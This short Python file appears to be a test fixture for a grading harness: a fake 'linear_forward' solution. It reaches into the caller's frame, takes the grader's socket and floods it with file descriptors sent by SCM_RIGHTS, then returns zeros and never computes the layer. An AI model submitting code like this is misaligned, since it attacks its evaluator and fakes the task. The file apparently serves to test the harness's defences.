"""Sends open files along with its answer, to fill the grader's table of descriptors.

expect: failed, flood, breach
"""

import array
import os
import socket
import sys


def linear_forward(x, W, b):
    caller = sys._getframe(1).f_locals.get("self")
    if hasattr(caller, "channel"):
        files = array.array("i", [os.open("/dev/null", os.O_RDONLY) for _ in range(20)])
        for _ in range(4):
            rights = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, files)]
            caller.channel.sock.sendmsg([b"LWF1"], rights)
    return 0 * (x @ W.T), None
